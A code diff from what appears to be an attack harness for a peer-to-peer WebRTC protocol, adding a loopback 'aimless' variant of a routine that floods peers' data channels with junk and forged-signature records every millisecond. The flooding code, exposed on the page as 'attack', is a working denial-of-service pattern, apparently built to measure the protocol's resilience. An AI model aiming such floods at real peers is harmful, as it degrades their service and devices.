@@ -91,6 +91,25 @@ function begin(name: string, weapon: Weapon): void {
   setInterval(() => victims.forEach((victim) => fire(victim, weapon)), 1);
 }
 
+/**
+ * The same work directed at nobody: so many bytes to a connection of this page with itself. What honest pages lose by that
+ * they lose to the processor they share with the attacker, not to what they do with its bytes.
+ */
+async function beginAimless(weapon: Weapon, bytes: number): Promise<void> {
+  const [near, far] = [new RTCPeerConnection(), new RTCPeerConnection()];
+  near.addEventListener('icecandidate', ({ candidate }) => void (candidate && far.addIceCandidate(candidate)));
+  far.addEventListener('icecandidate', ({ candidate }) => void (candidate && near.addIceCandidate(candidate)));
+  const [control] = [near, far].map((connection) => connection.createDataChannel('aimless', { negotiated: true, id: 100 }));
+  await near.setLocalDescription();
+  await far.setRemoteDescription(near.localDescription!);
+  await far.setLocalDescription();
+  await near.setRemoteDescription(far.localDescription!);
+  const firing = setInterval(() => {
+    if (report.bytes < bytes) shoot(control!, weapon);
+    else clearInterval(firing);
+  }, 1);
+}
+
 function sessionOf(room: Room, more: object): Session {
   return new Session({
     room: room.address, secret: random(32), random, suite: schnorrSuite, limits: SESSION_DEFAULTS, horizon: 0, features: 0,
@@ -107,9 +126,13 @@ function perform(made: WebrtcTransport, peer: PeerId, outputs: readonly SessionO
   }
 }
 
-/** As much as the channel takes now. */
 function fire({ control, isOpen }: Victim, weapon: Weapon): void {
-  while (isOpen && control.readyState === 'open' && control.bufferedAmount < BUFFERED_MAX) {
+  if (isOpen) shoot(control, weapon);
+}
+
+/** As much as the channel takes now. */
+function shoot(control: RTCDataChannel, weapon: Weapon): void {
+  while (control.readyState === 'open' && control.bufferedAmount < BUFFERED_MAX) {
     const message = AMMUNITION[weapon]();
     const frame = new Uint8Array(WHOLE.length + message.length);
     frame.set(WHOLE);
@@ -137,6 +160,6 @@ function forgedRecord(): Uint8Array {
   return writePacked({ ...draft, pubkey: hex(random(32)), sig: hex(random(64)) });
 }
 
-const attack = { begin, report: () => report, victims: () => victims.size, selfId: () => transport?.selfId };
+const attack = { begin, beginAimless, report: () => report, victims: () => victims.size, selfId: () => transport?.selfId };
 
 Object.assign(window, { attack });
